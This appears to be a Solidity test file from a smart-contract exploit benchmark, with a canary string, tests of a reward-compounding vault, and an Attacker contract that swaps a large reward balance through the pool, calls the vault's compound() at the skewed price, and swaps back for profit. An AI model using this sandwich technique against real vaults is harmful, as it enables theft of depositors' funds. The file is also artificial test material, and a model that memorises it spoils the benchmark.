// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CompoundStrategy.sol";

// assay-canary-9cc81df6-20b6-4683-9c7a-dada078bd309

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Asset is Coin("ASSET") {}

contract Reward is Coin("REWARD") {}

/// One for one, as it was for the last half hour.
contract Source is IValueSource {
    function valueOf(uint256 amount) external pure returns (uint256) {
        return amount;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Asset internal token;
    Reward internal reward;
    PairPool internal pool;
    CompoundStrategy internal vault;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1_800_000_000);
        token = new Asset();
        reward = new Reward();
        pool = new PairPool(token, reward);
        vault = new CompoundStrategy(token, reward, pool, new Source());
        token.mint(address(this), 1_000_000e18);
        reward.mint(address(this), 1_000_000e18);
        token.approve(address(pool), type(uint256).max);
        reward.approve(address(pool), type(uint256).max);
        pool.provide(1_000_000e18, 1_000_000e18);

        token.mint(ANA, 50_000e18);
        vm.startPrank(ANA);
        token.approve(address(vault), 50_000e18);
        vault.deposit(40_000e18, ANA);
        vm.stopPrank();
        reward.mint(address(vault), 10_000e18);
        mallory = new Attacker(vault, pool, token, reward);
        reward.mint(address(mallory), 1_000_000e18);
    }

    function test_Regular() public {
        uint256 expected = pool.quote(reward, 10_000e18);
        require(expected / 1e18 == 9_896, "a hundredth less for the amount");
        vm.prank(BEN);
        require(vault.compound() == expected, "exchanged");
        require(vault.lockedProfit() == expected && vault.totalAssets() == 40_000e18, "locked at first");
        vm.warp(block.timestamp + 3 hours);
        require(vault.totalAssets() == 40_000e18 + expected - expected / 2, "half");
        reward.mint(address(vault), 1_000e18);
        uint256 more = vault.compound();
        require(vault.lockedProfit() == expected / 2 + more, "what is left and what is new");
        vm.warp(block.timestamp + 6 hours);
        require(vault.totalAssets() == 40_000e18 + expected + more, "all");

        vm.startPrank(ANA);
        vault.mint(1e24, ANA);
        vault.withdraw(1_000e18, ANA, ANA);
        require(vault.redeem(vault.balanceOf(ANA) / 2, ANA, ANA) > 24_900e18, "half of it all");
        vault.approve(BEN, 5e24);
        vault.transfer(BEN, 1e24);
        vm.stopPrank();
        vm.prank(BEN);
        vault.transferFrom(ANA, BEN, 5e24);
        require(vault.balanceOf(BEN) == 6e24, "shares moved");
    }

    function test_RefusesToCompound() public {
        vm.startPrank(ANA);
        vault.compound();
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(CompoundStrategy.RewardsTooSmall.selector, 0, 100e18));
        vault.compound();
        reward.mint(address(vault), 100e18 - 1);
        vm.expectRevert(abi.encodeWithSelector(CompoundStrategy.RewardsTooSmall.selector, 100e18 - 1, 100e18));
        vault.compound();
        reward.mint(address(vault), 1);
        vault.compound();
    }

    function test_RefusesWithoutDepositors() public {
        vm.startPrank(ANA);
        vault.redeem(vault.balanceOf(ANA), ANA, ANA);
        vm.stopPrank();
        vm.expectRevert(CompoundStrategy.NoDepositors.selector);
        vault.compound();
    }

    function test_RefusesProviders() public {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(PairPool.OnlyProvider.selector, address(this)));
        pool.provide(0, 0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(reward.balanceOf(address(mallory)) >= 1_005_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(reward);
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CompoundStrategy internal vault;
    PairPool internal pool;
    IERC20 internal token;
    IERC20 internal reward;

    constructor(CompoundStrategy vault_, PairPool pool_, IERC20 token_, IERC20 reward_) {
        vault = vault_;
        pool = pool_;
        token = token_;
        reward = reward_;
    }

    function run() external {
        uint256 amount = reward.balanceOf(address(this));
        reward.approve(address(pool), amount);
        uint256 got = pool.swap(reward, amount, 0, address(this));
        vault.compound();
        token.approve(address(pool), got);
        pool.swap(token, got, 0, address(this));
    }
}
